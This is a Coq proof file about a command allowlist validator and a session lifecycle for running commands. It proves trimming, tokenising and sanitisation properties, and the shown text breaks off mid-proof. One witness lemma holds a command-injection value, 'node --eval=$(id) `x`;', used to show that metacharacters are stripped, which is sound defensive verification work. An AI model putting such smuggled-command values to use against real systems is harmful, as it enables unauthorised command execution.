Lemma drop_ws_all_ws s : forallb is_ws s = true -> drop_ws s = [].
Proof.
induction s as [|c s IH]; [reflexivity|]. cbn [forallb drop_ws].
intros H. apply andb_true_iff in H as [-> Hs]. auto.
Qed.

Lemma drop_ws_nil_inv s : drop_ws s = [] -> forallb is_ws s = true.
Proof.
induction s as [|c s IH]; [reflexivity|]. cbn [forallb drop_ws].
destruct (is_ws c); [exact IH | discriminate].
Qed.

Lemma drop_ws_idem s : drop_ws (drop_ws s) = drop_ws s.
Proof.
induction s as [|c s IH]; [reflexivity|]. cbn [drop_ws].
destruct (is_ws c) eqn:E; [assumption|]. cbn [drop_ws]. rewrite E. reflexivity.
Qed.

Lemma drop_ws_solid_head c s : is_ws c = false -> drop_ws (c :: s) = c :: s.
Proof. intros H. cbn [drop_ws]. rewrite H. reflexivity. Qed.

Lemma trim_blank s : forallb is_ws s = true <-> trim s = [].
Proof.
unfold trim. split.
- intros H. rewrite (drop_ws_all_ws s H). reflexivity.
- intros H. apply drop_ws_nil_inv.
  destruct (drop_ws s) as [|c t] eqn:E; [reflexivity|].
  pose proof (drop_ws_head s) as Hh. rewrite E in Hh.
  rewrite rtrim_cons in H. cbn [forallb] in H. rewrite Hh in H. discriminate.
Qed.

Lemma trim_head s :
  match trim s with [] => True | c :: _ => is_ws c = false end.
Proof.
unfold trim. pose proof (drop_ws_head s) as Hh.
destruct (drop_ws s) as [|c t]; [exact I|].
rewrite rtrim_cons. cbn [forallb]. rewrite Hh. exact Hh.
Qed.

Lemma trim_idempotent s : trim (trim s) = trim s.
Proof.
pose proof (trim_head s) as Hh. unfold trim at 1.
destruct (trim s) as [|c t] eqn:E; [reflexivity|].
rewrite (drop_ws_solid_head _ _ Hh), <- E. unfold trim.
rewrite rev_involutive, drop_ws_idem. reflexivity.
Qed.

Lemma trim_padding l r s :
  forallb is_ws l = true -> forallb is_ws r = true ->
  trim (l ++ s ++ r) = trim s.
Proof.
intros Hl Hr. unfold trim.
rewrite drop_ws_app, Hl, drop_ws_app.
destruct (forallb is_ws s) eqn:Es.
- rewrite (drop_ws_all_ws r Hr), (drop_ws_all_ws s Es). reflexivity.
- rewrite rev_app_distr, drop_ws_app, forallb_is_ws_rev, Hr. reflexivity.
Qed.

(** *** What [validateCommand] accepts *)

(** X2. White space around a command never changes the verdict, the reason or
    the sanitized command. *)
Theorem validateCommand_ignores_padding (l r cmd : jsstring) :
  forallb is_ws l = true -> forallb is_ws r = true ->
  validateCommand (l ++ cmd ++ r) = validateCommand cmd.
Proof.
intros Hl Hr. unfold validateCommand. rewrite (trim_padding l r cmd Hl Hr).
reflexivity.
Qed.

Lemma validateCommand_ignores_padding_witness :
  validateCommand (js "  " ++ js "git status" ++ js " ") =
  validateCommand (js "git status").
Proof.
apply (validateCommand_ignores_padding (js "  ") (js " ") (js "git status"));
  reflexivity.
Defined.

Lemma first_token_of_trim s :
  trim s <> [] -> first_token s = Some (List.hd [] (split_ws (trim s))).
Proof.
intros H. destruct (first_token s) as [b|] eqn:E.
- apply first_token_trim in E as [_ <-]. reflexivity.
- exfalso. apply H. apply trim_blank, drop_ws_nil_inv.
  unfold first_token in E. destruct (drop_ws s); [reflexivity | discriminate].
Qed.

(** X1. A command is accepted exactly when it has a first token, that token is
    one of ALLOWED_COMMANDS, and no dangerous pattern matches the command.
    The templates of ALLOWED_PATTERNS accept nothing more. *)
Theorem validateCommand_accepts_iff (cmd : jsstring) :
  allowed (validateCommand cmd) = true <->
  exists b, first_token cmd = Some b /\
            includes ALLOWED_COMMANDS b = true /\
            existsb (fun p => test p cmd) DANGEROUS_PATTERNS = false.
Proof.
rewrite <- dangerous_test_trim. unfold validateCommand.
destruct (trim cmd) as [|c t] eqn:E.
- split; [discriminate|]. intros (b & Hb & _).
  apply first_token_trim in Hb as [Hne _]. congruence.
- assert (Hne : trim cmd <> []) by congruence.
  apply first_token_of_trim in Hne. rewrite E in Hne. rewrite Hne.
  destruct (List.find _ DANGEROUS_PATTERNS) eqn:F.
  + split; [discriminate|]. intros (b & _ & _ & Hd).
    apply find_existsb in Hd. congruence.
  + apply find_existsb in F.
    destruct (includes ALLOWED_COMMANDS (List.hd [] (split_ws (c :: t)))) eqn:I.
    * split; [|reflexivity]. intros _. eauto.
    * destruct (existsb (fun p => test p (c :: t)) ALLOWED_PATTERNS) eqn:P.
      -- apply allowed_pattern_implies_command in P. congruence.
      -- split; [discriminate|]. intros (b & Hb & Hi & _).
         injection Hb as <-. congruence.
Qed.

(** X3. The reason is "Empty command" exactly for commands made of white space
    only (the empty command included). *)
Theorem validateCommand_empty_iff_blank (cmd : jsstring) :
  validateCommand cmd = empty_result <-> forallb is_ws cmd = true.
Proof.
rewrite trim_blank. unfold validateCommand, empty_result.
destruct (trim cmd) as [|c t]; [split; reflexivity|].
split; [|discriminate].
destruct (List.find _ DANGEROUS_PATTERNS); [discriminate|].
destruct (includes _ _); [discriminate|].
destruct (existsb _ ALLOWED_PATTERNS); discriminate.
Qed.

(** *** Splitting, joining and [sanitizeCommand] *)

Lemma forallb_rev {A} (f : A -> bool) (l : list A) :
  forallb f (rev l) = forallb f l.
Proof.
induction l as [|x l IH]; [reflexivity|]. cbn [rev forallb].
rewrite forallb_app, IH. cbn [forallb]. rewrite andb_true_r. apply andb_comm.
Qed.

Lemma split_ws_from_solid p cur rest :
  forallb (fun c => negb (is_ws c)) p = true ->
  split_ws_from false cur (p ++ rest) = split_ws_from false (rev p ++ cur) rest.
Proof.
revert cur. induction p as [|c p IH]; intros cur H; [reflexivity|].
cbn [forallb] in H. apply andb_true_iff in H as [Hc Hp].
apply negb_true_iff in Hc. cbn [app split_ws_from]. rewrite Hc.
rewrite (IH _ Hp). cbn [rev]. rewrite <- app_assoc. reflexivity.
Qed.

Lemma split_ws_from_sep_solid c u :
  is_ws c = false ->
  split_ws_from true [] (c :: u) = split_ws_from false [] (c :: u).
Proof. intros H. cbn [split_ws_from]. rewrite H. reflexivity. Qed.

Lemma solid_inv t :
  solid t = true ->
  t <> [] /\ forallb (fun c => negb (is_ws c)) t = true.
Proof.
unfold solid. intros H. apply andb_true_iff in H as [H1 H2].
apply negb_true_iff, bool_decide_eq_false in H1. auto.
Qed.

Lemma solid_head t :
  solid t = true -> exists c u, t = c :: u /\ is_ws c = false.
Proof.
intros H. apply solid_inv in H as [Hne Hs].
destruct t as [|c u]; [congruence|]. cbn [forallb] in Hs.
apply andb_true_iff in Hs as [Hc _]. apply negb_true_iff in Hc. eauto.
Qed.

Lemma join_cons2 sep p q rest :
  join sep (p :: q :: rest) = p ++ sep ++ join sep (q :: rest).
Proof. reflexivity. Qed.

Lemma join_solid_head parts :
  parts <> [] -> forallb solid parts = true ->
  exists c u, join (js " ") parts = c :: u /\ is_ws c = false.
Proof.
intros Hne H. destruct parts as [|p rest]; [congruence|].
cbn [forallb] in H. apply andb_true_iff in H as [Hp _].
destruct (solid_head p Hp) as (c & u & -> & Hc).
destruct rest as [|q rest]; [cbn; eauto|].
rewrite join_cons2. cbn [app]. eauto.
Qed.

(** Splitting a join of solid pieces gives the pieces back. *)
Lemma split_ws_join parts :
  parts <> [] -> forallb solid parts = true ->
  split_ws (join (js " ") parts) = parts.
Proof.
intros Hne H. unfold split_ws. induction parts as [|p rest IH]; [congruence|].
cbn [forallb] in H. apply andb_true_iff in H as [Hp Hrest].
destruct (solid_inv p Hp) as [_ Hs].
destruct rest as [|q rest].
- cbn [join]. rewrite <- (app_nil_r p) at 1.
  rewrite (split_ws_from_solid p [] [] Hs), app_nil_r.
  cbn [split_ws_from]. rewrite rev_involutive. reflexivity.
- rewrite join_cons2, (split_ws_from_solid p [] _ Hs), app_nil_r.
  change (js " " ++ join (js " ") (q :: rest))
    with (32%N :: join (js " ") (q :: rest)).
  cbn [split_ws_from]. change (is_ws 32) with true. cbn beta iota.
  rewrite rev_involutive. f_equal.
  destruct (join_solid_head (q :: rest)) as (c & u & E & Hc);
    [discriminate | assumption |].
  rewrite E, (split_ws_from_sep_solid c u Hc), <- E.
  apply IH; [discriminate | assumption].
Qed.

Lemma ends_solid_not_blank u : ends_solid u = true -> forallb is_ws u = false.
Proof.
induction u as [|c u IH]; [discriminate|]. intros H. cbn [forallb].
destruct u as [|d u].
- cbn in H. apply negb_true_iff in H. rewrite H. reflexivity.
- rewrite (IH H). apply andb_false_r.
Qed.

Lemma rtrim_solid u : ends_solid u = true -> rev (drop_ws (rev u)) = u.
Proof.
induction u as [|c u IH]; [discriminate|]. intros H.
rewrite rtrim_cons, (ends_solid_not_blank _ H).
destruct u as [|d u]; [reflexivity|]. rewrite (IH H). reflexivity.
Qed.

Lemma trim_solid c u :
  is_ws c = false -> ends_solid (c :: u) = true -> trim (c :: u) = c :: u.
Proof.
intros Hc He. unfold trim. rewrite (drop_ws_solid_head _ _ Hc).
apply rtrim_solid. assumption.
Qed.

Lemma ends_solid_app a b : b <> [] -> ends_solid (a ++ b) = ends_solid b.
Proof.
intros Hb. induction a as [|c a IH]; [reflexivity|].
cbn [app]. destruct (a ++ b) as [|d r] eqn:E.
- destruct a; [cbn in E; congruence | discriminate].
- exact IH.
Qed.

Lemma solid_ends t : solid t = true -> ends_solid t = true.
Proof.
intros H. apply solid_inv in H as [Hne Hs].
induction t as [|c t IH]; [congruence|]. cbn [forallb] in Hs.
apply andb_true_iff in Hs as [Hc Ht]. destruct t as [|d t]; [exact Hc|].
apply IH; [discriminate | assumption].
Qed.

Lemma join_ends_solid parts :
  parts <> [] -> forallb solid parts = true ->
  ends_solid (join (js " ") parts) = true.
Proof.
intros Hne H. induction parts as [|p rest IH]; [congruence|].
cbn [forallb] in H. apply andb_true_iff in H as [Hp Hrest].
destruct rest as [|q rest]; [apply solid_ends; assumption|].
rewrite join_cons2, app_assoc, ends_solid_app.
- apply IH; [discriminate | assumption].
- destruct (join_solid_head (q :: rest)) as (c & u & -> & _);
    [discriminate | assumption | discriminate].
Qed.

Lemma trim_join parts :
  parts <> [] -> forallb solid parts = true ->
  trim (join (js " ") parts) = join (js " ") parts.
Proof.
intros Hne H. pose proof (join_ends_solid parts Hne H) as He.
destruct (join_solid_head parts Hne H) as (c & u & E & Hc).
rewrite E in *. apply trim_solid; assumption.
Qed.

Lemma rtrim_nil_inv t : rev (drop_ws (rev t)) = [] -> forallb is_ws t = true.
Proof.
destruct t as [|c t]; [reflexivity|]. rewrite rtrim_cons.
destruct (forallb is_ws (c :: t)); [reflexivity | discriminate].
Qed.

Lemma rtrim_ends_solid t :
  rev (drop_ws (rev t)) <> [] -> ends_solid (rev (drop_ws (rev t))) = true.
Proof.
induction t as [|c t IH]; [intros H; exfalso; apply H; reflexivity|].
rewrite rtrim_cons. destruct (forallb is_ws (c :: t)) eqn:A; [congruence|].
intros _. destruct (rev (drop_ws (rev t))) as [|d r] eqn:E.
- apply rtrim_nil_inv in E. cbn [forallb] in A. rewrite E, andb_true_r in A.
  cbn. rewrite A. reflexivity.
- apply IH. discriminate.
Qed.

Lemma trim_ends_solid s : trim s <> [] -> ends_solid (trim s) = true.
Proof. unfold trim. apply rtrim_ends_solid. Qed.

(** The pieces of a string that neither begins nor ends with white space
    are solid. *)
Lemma split_ws_from_pieces u :
  (forall cur,
     ends_solid u = true \/ (u = [] /\ cur <> []) ->
     cur <> [] \/ match u with c :: _ => is_ws c = false | [] => False end ->
     forallb (fun c => negb (is_ws c)) cur = true ->
     forallb solid (split_ws_from false cur u) = true) /\
  (ends_solid u = true -> forallb solid (split_ws_from true [] u) = true).
Proof.
induction u as [|c u [IHF IHT]].
- split; [|discriminate]. intros cur [H|[_ H]] _ Hs; [discriminate|].
  cbn [split_ws_from forallb]. rewrite andb_true_r. unfold solid.
  rewrite forallb_rev, Hs, andb_true_r.
  apply negb_true_iff, bool_decide_eq_false.
  intros E. apply H. destruct cur; [reflexivity|].
  apply (f_equal (@length N)) in E. rewrite length_rev in E. discriminate.
- assert (Hu : ends_solid (c :: u) = true -> is_ws c = true ->
               ends_solid u = true).
  { intros H Hc. destruct u; [cbn in H; rewrite Hc in H; discriminate | exact H]. }
  assert (Hu' : ends_solid (c :: u) = true -> u = [] \/ ends_solid u = true).
  { intros H. destruct u; [left; reflexivity | right; exact H]. }
  split.
  + intros cur H1 H2 Hs. cbn [split_ws_from].
    assert (He : ends_solid (c :: u) = true)
      by (destruct H1 as [H1|[H1 _]]; [assumption | discriminate]).
    destruct (is_ws c) eqn:Hc.
    * destruct H2 as [H2|H2]; [|discriminate].
      cbn [forallb]. rewrite (IHT (Hu He eq_refl)), andb_true_r.
      unfold solid. rewrite forallb_rev, Hs, andb_true_r.
      apply negb_true_iff, bool_decide_eq_false.
      intros E. apply H2. destruct cur; [reflexivity|].
      apply (f_equal (@length N)) in E. rewrite length_rev in E. discriminate.
    * apply IHF.
      -- destruct (Hu' He) as [->|Hu2]; [right; split; [reflexivity | discriminate]
                                        | left; assumption].
      -- left. discriminate.
      -- cbn [forallb]. rewrite Hc. exact Hs.
  + intros He. cbn [split_ws_from]. destruct (is_ws c) eqn:Hc.
    * apply IHT. apply Hu; [assumption | reflexivity].
    * apply IHF.
      -- destruct (Hu' He) as [->|Hu2]; [right; split; [reflexivity | discriminate]
                                        | left; assumption].
      -- left. discriminate.
      -- cbn [forallb]. rewrite Hc. reflexivity.
Qed.

(** The tokens of a command that is not blank are solid. *)
Lemma tokens_solid command :
  trim command <> [] -> forallb solid (tokens command) = true.
Proof.
intros H. unfold tokens, split_ws.
pose proof (trim_head command) as Hh. pose proof (trim_ends_solid _ H) as He.
destruct (trim command) as [|c u]; [congruence|].
apply (proj1 (split_ws_from_pieces (c :: u))); auto.
Qed.

Lemma split_ws_from_nonempty sep cur u : split_ws_from sep cur u <> [].
Proof.
revert sep cur. induction u as [|c u IH]; intros sep cur; cbn [split_ws_from].
- discriminate.
- destruct (is_ws c); [destruct sep; [apply IH | discriminate] | apply IH].
Qed.

Lemma dash_not_meta : is_shell_meta 45 = false.
Proof. reflexivity. Qed.

Lemma startsWith_dash t :
  startsWith t (js "-") = true <-> exists u, t = 45%N :: u.
Proof.
change (js "-") with [45%N]. destruct t as [|c u]; cbn [startsWith].
- split; [discriminate | intros [u H]; discriminate].
- replace (startsWith u []) with true by (destruct u; reflexivity).
  rewrite andb_true_r, N.eqb_eq. split.
  + intros <-. eauto.
  + intros [v H]. congruence.
Qed.

Lemma sanitize_part_solid t : solid t = true -> solid (sanitize_part t) = true.
Proof.
intros H. unfold sanitize_part.
destruct (startsWith t (js "-")) eqn:E; [|assumption].
apply startsWith_dash in E as [u ->].
apply solid_inv in H as [_ Hs]. unfold solid.
cbn [List.filter]. rewrite dash_not_meta. cbn [negb].
apply andb_true_iff. split; [reflexivity|].
cbn [forallb] in *. apply andb_true_iff in Hs as [Hc Hu].
rewrite Hc. cbn [andb]. rewrite forallb_forall in *.
intros x Hx. apply filter_In in Hx as [Hx _]. auto.
Qed.

Lemma filter_idem {A} (f : A -> bool) (l : list A) :
  List.filter f (List.filter f l) = List.filter f l.
Proof.
induction l as [|x l IH]; [reflexivity|]. cbn [List.filter].
destruct (f x) eqn:E; [|assumption]. cbn [List.filter]. rewrite E, IH. reflexivity.
Qed.

Lemma sanitize_part_idem t : sanitize_part (sanitize_part t) = sanitize_part t.
Proof.
destruct (startsWith t (js "-")) eqn:E.
- assert (H : sanitize_part t = List.filter (fun c => negb (is_shell_meta c)) t)
    by (unfold sanitize_part; rewrite E; reflexivity).
  rewrite H.
  assert (E2 : startsWith (List.filter (fun c => negb (is_shell_meta c)) t)
                 (js "-") = true).
  { apply startsWith_dash in E as [u ->]. apply startsWith_dash.
    cbn [List.filter]. rewrite dash_not_meta. cbn [negb]. eauto. }
  unfold sanitize_part. rewrite E2. apply filter_idem.
- assert (H : sanitize_part t = t)
    by (unfold sanitize_part; rewrite E; reflexivity).
  rewrite !H. reflexivity.
Qed.

(** Tokenising the sanitized command gives the sanitized tokens of the
    command, one for one. *)
Lemma tokens_sanitizeCommand command :
  tokens (sanitizeCommand command) = List.map sanitize_part (tokens command).
Proof.
unfold sanitizeCommand. fold (tokens command).
destruct (trim command) as [|c u] eqn:E.
- unfold tokens at 2 3. rewrite E. reflexivity.
- assert (Hne : trim command <> []) by congruence.
  pose proof (tokens_solid command Hne) as Hs.
  assert (Hp : forallb solid (List.map sanitize_part (tokens command)) = true).
  { rewrite forallb_forall in *. intros x Hx.
    apply in_map_iff in Hx as (t & <- & Ht). apply sanitize_part_solid. auto. }
  assert (Hn : List.map sanitize_part (tokens command) <> []).
  { unfold tokens, split_ws.
    pose proof (split_ws_from_nonempty false [] (trim command)) as Hx.
    destruct (split_ws_from false [] (trim command)); [congruence | discriminate]. }
  unfold tokens at 1. rewrite (trim_join _ Hn Hp). apply split_ws_join; assumption.
Qed.

(** X5. [sanitizeCommand] is idempotent. *)
Theorem sanitizeCommand_idempotent (command : jsstring) :
  sanitizeCommand (sanitizeCommand command) = sanitizeCommand command.
Proof.
unfold sanitizeCommand at 1. fold (tokens (sanitizeCommand command)).
rewrite tokens_sanitizeCommand, map_map.
unfold sanitizeCommand. fold (tokens command). f_equal.
apply map_ext. intros t. apply sanitize_part_idem.
Qed.

(** X4. The sanitized command, token by token: it has as many tokens as the
    command; a token that begins with "-" has lost its shell
    metacharacters and nothing else; every other token is kept as it is,
    metacharacters included. *)
Theorem sanitizeCommand_by_token (command : jsstring) (i : nat) (t : jsstring) :
  nth_error (tokens command) i = Some t ->
  exists t', nth_error (tokens (sanitizeCommand command)) i = Some t' /\
    (startsWith t (js "-") = false -> t' = t) /\
    (startsWith t (js "-") = true ->
       t' = List.filter (fun c => negb (is_shell_meta c)) t /\
       forallb (fun c => negb (is_shell_meta c)) t' = true) /\
    length (tokens (sanitizeCommand command)) = length (tokens command).
Proof.
intros H. rewrite tokens_sanitizeCommand.
exists (sanitize_part t). split; [|split; [|split]].
- rewrite nth_error_map, H. reflexivity.
- intros E. unfold sanitize_part. rewrite E. reflexivity.
- intros E. unfold sanitize_part. rewrite E. split; [reflexivity|].
  apply forallb_forall. intros x Hx. apply filter_In in Hx as [_ Hx]. exact Hx.
- apply length_map.
Qed.

Lemma sanitizeCommand_by_token_witness :
  exists t',
    nth_error (tokens (sanitizeCommand (js "node --eval=$(id) `x`;"))) 1 = Some t' /\
    t' = js "--eval=id".
Proof.
destruct (sanitizeCommand_by_token (js "node --eval=$(id) `x`;") 1
            (js "--eval=$(id)") eq_refl) as (t' & H1 & _ & H3 & _).
exists t'. split; [exact H1|]. exact (proj1 (H3 eq_refl)).
Defined.

End AllowlistFacts.

(* ===================================================================== *)
(** ** More about src/session/lifecycle.ts *)
(* ===================================================================== *)

Module LifecycleFacts.
Import JS Lifecycle.


Section WithEnv.

Variable env : Env.

(** The directory [createSession] derives for the next session. *)
Definition next_session_dir (m : Manager) (st : State) : path :=
path_join (sessions_dir m) (js "session-" ++ uuidv4 env (uuids_drawn st)).

Definition next_work_dir (m : Manager) (options : SessionOptions) (st : State)
  : path :=
path_join (next_session_dir m st)
  (or_default (work_dir_name options) DEFAULT_WORK_DIR).

Definition next_output_dir (m : Manager) (options : SessionOptions) (st : State)
  : path :=
path_join (next_session_dir m st)
  (or_default (output_dir_name options) DEFAULT_OUTPUT_DIR).


(** *** Sequencing *)

Lemma bind_Ok_inv {A B} (c : M A) (k : A -> M B) st b st' :
  bind c k st = (Ok b, st') ->
  exists a st1, c st = (Ok a, st1) /\ k a st1 = (Ok b, st').
Proof.
unfold bind. destruct (c st) as [[a|e] st1]; [eauto | discriminate].
Qed.

Lemma bind_run {A B} (c : M A) (k : A -> M B) st a st1 :
  c st = (Ok a, st1) -> bind c k st = k a st1.
Proof. unfold bind. intros ->. reflexivity. Qed.

Lemma bind_throw {A B} (c : M A) (k : A -> M B) st e st1 :
  c st = (Throw e, st1) -> bind c k st = (Throw e, st1).
Proof. unfold bind. intros ->. reflexivity. Qed.

(** *** Directories *)

Lemma make_dir_keeps f p q x : f !! q = Some x -> make_dir f p !! q = Some x.
Proof.
intros H. unfold make_dir. destruct (f !! p) eqn:E; [assumption|].
destruct (decide (p = q)) as [->|Hne]; [congruence|].
rewrite lookup_insert_ne by assumption. assumption.
Qed.

Lemma fold_make_dir_keeps l f q x :
  f !! q = Some x -> fold_left make_dir l f !! q = Some x.
Proof.
revert f. induction l as [|p l IH]; intros f H; [assumption|].
cbn [fold_left]. apply IH, make_dir_keeps. assumption.
Qed.

Lemma is_file_make_dir f p q : is_file (make_dir f p) q = is_file f q.
Proof.
unfold is_file, make_dir. destruct (f !! p) eqn:E; [reflexivity|].
destruct (decide (p = q)) as [->|Hne].
- rewrite lookup_insert_eq, E. reflexivity.
- rewrite lookup_insert_ne by assumption. reflexivity.
Qed.

Lemma make_dir_self f p : is_file f p = false -> make_dir f p !! p = Some Dir.
Proof.
unfold is_file, make_dir. destruct (f !! p) as [[|c]|] eqn:E; intros H.
- assumption.
- discriminate.
- apply lookup_insert_eq.
Qed.

Lemma fold_make_dir_self l f p :
  In p l -> existsb (is_file f) l = false ->
  fold_left make_dir l f !! p = Some Dir.
Proof.
revert f. induction l as [|q l IH]; intros f Hin Hf; [destruct Hin|].
cbn [existsb] in Hf. apply orb_false_iff in Hf as [Hq Hl].
cbn [fold_left]. destruct Hin as [->|Hin].
- apply fold_make_dir_keeps, make_dir_self. assumption.
- apply IH; [assumption|].
  rewrite <- Hl. clear. induction l as [|r l IHl]; [reflexivity|].
  cbn [existsb]. rewrite is_file_make_dir, IHl. reflexivity.
Qed.

Lemma prefixes_from_self base p :
  p <> [] -> In (base ++ p) (prefixes_from base p).
Proof.
revert base. induction p as [|a p IH]; intros base H; [congruence|].
cbn [prefixes_from]. destruct p as [|b p].
- left. reflexivity.
- right. replace (base ++ a :: b :: p) with ((base ++ [a]) ++ b :: p)
    by (rewrite <- app_assoc; reflexivity).
  apply IH. discriminate.
Qed.

Lemma fs_mkdir_Ok p st st' :
  p <> [] ->
  fs_mkdir env p st = (Ok tt, st') ->
  files st' !! p = Some Dir /\
  (forall q x, files st !! q = Some x -> files st' !! q = Some x) /\
  heap st' = heap st /\ active_sessions st' = active_sessions st.
Proof.
intros Hp. unfold fs_mkdir. destruct (mkdir_error env p); [discriminate|].
destruct (existsb _ _) eqn:E; [discriminate|].
intros H. injection H as <-. cbn [files heap active_sessions with_files].
split; [|split; [|split; reflexivity]].
- apply fold_make_dir_self; [|assumption].
  apply (prefixes_from_self [] p Hp).
- intros q x. apply fold_make_dir_keeps.
Qed.

Lemma path_join_nonempty p name : path_join p name <> [].
Proof. unfold path_join. destruct p; discriminate. Qed.

(** *** createSession *)

(** X6. When [createSession] returns, the session object is in state
    PREPARING with the job's id and a fresh identifier, it is registered
    under that identifier, and its work and output directories exist. *)
Theorem createSession_postcondition
  (m : Manager) (job : jsstring) (options : SessionOptions)
  (st st' : State) (s : loc) :
  createSession env m job options st = (Ok s, st') ->
  exists o,
    heap st' !! s = Some o /\
    state o = PREPARING /\ job_id o = job /\ error o = None /\
    session_id o = uuidv4 env (uuids_drawn st) /\
    work_dir o = next_work_dir m options st /\
    output_dir o = next_output_dir m options st /\
    active_sessions st' !! session_id o = Some s /\
    files st' !! work_dir o = Some Dir /\
    files st' !! output_dir o = Some Dir.
Proof.
unfold createSession.
unfold bind at 1, entered at 1. cbn beta iota.
unfold bind at 1, draw_uuid at 1. cbn beta iota.
unfold bind at 1, now at 1. cbn beta iota.
unfold bind at 1, alloc at 1. cbn beta iota.
cbn [active_sessions heap next_loc files uuids_drawn clock_reads trace
     with_trace].
fold (next_session_dir m st). fold (next_work_dir m options st).
fold (next_output_dir m options st).
set (o0 := {| session_id := _; job_id := job |}).
match goal with |- _ ?x = _ -> _ => set (st4 := x) end.
intros H.
apply bind_Ok_inv in H as ([] & st5 & E1 & H).
apply bind_Ok_inv in H as ([] & st6 & E2 & H).
apply bind_Ok_inv in H as ([] & st7 & E3 & H).
apply bind_Ok_inv in H as ([] & st8 & E4 & H).
injection H as <- <-.
apply fs_mkdir_Ok in E1 as (W1 & K1 & H1 & A1); [|apply path_join_nonempty].
apply fs_mkdir_Ok in E2 as (W2 & K2 & H2 & A2); [|apply path_join_nonempty].
injection E3 as <-.
assert (Ho : heap (with_active_sessions st6
                     (<[session_id o0 := next_loc st]> (active_sessions st6)))
               !! next_loc st = Some o0).
{ cbn [heap with_active_sessions]. rewrite H2, H1. apply lookup_insert_eq. }
rewrite (transitionState_run _ _ _ _ _ _ Ho) in E4.
destruct (notify m o0 PREPARING) as [[]|e]; [|discriminate].
injection E4 as <-.
exists (set_state o0 PREPARING).
cbn [heap active_sessions files with_heap with_active_sessions
     state job_id error session_id work_dir output_dir set_state o0].
repeat split.
- apply lookup_insert_eq.
- apply lookup_insert_eq.
- apply K2. assumption.
- assumption.
Qed.

(** X7. No rollback: when creating the output directory throws, [createSession]
    throws the same error, the work directory it has just created stays,
    and the session is not registered. *)
Theorem createSession_output_mkdir_fails
  (m : Manager) (job : jsstring) (options : SessionOptions) (st : State)
  (e : jsstring) :
  mkdir_error env (next_work_dir m options st) = None ->
  existsb (is_file (files st)) (prefixes_from [] (next_work_dir m options st))
    = false ->
  mkdir_error env (next_output_dir m options st) = Some e ->
  exists st',
    createSession env m job options st = (Throw e, st') /\
    files st' !! next_work_dir m options st = Some Dir /\
    active_sessions st' = active_sessions st.
Proof.
intros Hw Hf Ho. unfold createSession.
unfold bind at 1, entered at 1. cbn beta iota.
unfold bind at 1, draw_uuid at 1. cbn beta iota.
unfold bind at 1, now at 1. cbn beta iota.
unfold bind at 1, alloc at 1. cbn beta iota.
cbn [active_sessions heap next_loc files uuids_drawn clock_reads trace
     with_trace].
fold (next_session_dir m st). fold (next_work_dir m options st).
fold (next_output_dir m options st).
match goal with |- context [bind _ _ ?x] => set (st4 := x) end.
assert (E1 : fs_mkdir env (next_work_dir m options st) st4 =
             (Ok tt, with_files st4
                (fold_left make_dir (prefixes_from [] (next_work_dir m options st))
                   (files st)))).
{ unfold fs_mkdir. rewrite Hw. cbn [files st4]. rewrite Hf. reflexivity. }
rewrite (bind_run _ _ _ _ _ E1).
assert (E2 : forall st5, fs_mkdir env (next_output_dir m options st) st5 =
                         (Throw e, st5)).
{ intros st5. unfold fs_mkdir. rewrite Ho. reflexivity. }
rewrite (bind_throw _ _ _ _ _ (E2 _)).
eexists. split; [reflexivity|]. cbn [files active_sessions with_files st4].
split; [|reflexivity].
apply fold_make_dir_self; [|assumption].
apply (prefixes_from_self [] _ (path_join_nonempty _ _)).
Qed.

(** *** prepareSession *)










(** *** executeCommand *)

(** X10. [executeCommand] never throws because of the command: it returns, with
    exit code 0 exactly when [execSync] returned normally; the session is
    then EXECUTING with its start time set. *)
Theorem executeCommand_exit_code
  (m : Manager) (s : loc) (cmd : jsstring) (st : State) (o : SessionContext) :
  heap st !! s = Some o ->
  notify m o EXECUTING = Ok tt ->
  import_error env = None ->
  exists res st',
    executeCommand env m s cmd st = (Ok res, st') /\
    (exit_code res = 0%Z <->
     exists out, fst (execSync env cmd (work_dir o) (files st)) = ExecReturns out) /\
    heap st' !! s =
      Some (set_started_at (set_state o EXECUTING)
              (Date_now env (clock_reads st))) /\
    files st' = snd (execSync env cmd (work_dir o) (files st)).
Proof.
intros Ho Hn Hi. unfold executeCommand.
unfold bind at 1, entered at 1. cbn beta iota.
set (st0 := with_trace st _).
assert (Ho0 : heap st0 !! s = Some o) by exact Ho.
rewrite (bind_run _ _ _ _ _
           (eq_trans (transitionState_run m s PREPARING EXECUTING st0 o Ho0)
                     (f_equal (fun r => (r, _)) Hn))).
set (st1 := with_heap st0 _).
unfold bind at 1, now at 1. cbn beta iota.
match goal with |- context [bind (update _ _) _ ?x] => set (st2 := x) end.
assert (Ho2 : heap st2 !! s = Some (set_state o EXECUTING))
  by (cbn [heap st2 st1 with_heap]; apply lookup_insert_eq).
rewrite (bind_run _ _ _ _ _ (update_run _ _ _ _ Ho2)).
set (st3 := with_heap st2 _).
unfold import_child_process. rewrite Hi.
unfold bind at 1, ret at 1. cbn beta iota.
assert (Ho3 : heap st3 !! s =
              Some (set_started_at (set_state o EXECUTING)
                      (Date_now env (clock_reads st))))
  by (cbn [heap st3 with_heap]; apply lookup_insert_eq).
rewrite (bind_run _ _ _ _ _ (read_run _ _ _ Ho3)).
unfold bind, exec.
cbn [work_dir set_started_at set_state files st3 st2 st1 st0 with_heap
     with_trace].
destruct (execSync env cmd (work_dir o) (files st)) as [[out|status out err msg] f].
- eexists _, _. split; [reflexivity|]. cbn [exit_code fst snd]. split.
  + split; [eauto | reflexivity].
  + split; [exact Ho3 | reflexivity].
- eexists _, _. split; [reflexivity|]. cbn [exit_code fst snd]. split.
  + split.
    * destruct status as [n|]; [|discriminate].
      destruct (Z.eqb_spec n 0); [discriminate | contradiction].
    * intros [? ?]. discriminate.
  + split; [exact Ho3 | reflexivity].
Qed.

(** *** collectArtifacts *)


(** *** destroySession *)

(** X12. Once [destroySession] has returned, calling it again returns without
    touching files, registry or session objects: directories a failed
    removal left behind are not retried. *)
Theorem destroySession_second_call_is_noop
  (m : Manager) (s : loc) (st st1 : State) :
  destroySession env m s st = (Ok tt, st1) ->
  exists st2,
    destroySession env m s st1 = (Ok tt, st2) /\
    files st2 = files st1 /\ heap st2 = heap st1 /\
    active_sessions st2 = active_sessions st1.
Proof.
intros H. destruct (heap st !! s) as [o|] eqn:Ho.
- rewrite (destroySession_run env m s st o Ho) in H.
  assert (Hd : exists o1, heap st1 !! s = Some o1 /\ state o1 = DESTROYED).
  { destruct (bool_decide (state o = DESTROYED)) eqn:Eb.
    - injection H as <-. exists o. split; [exact Ho|].
      apply bool_decide_eq_true_1 in Eb. exact Eb.
    - destruct (notify m o DESTROYING) as [[]|e]; [|discriminate].
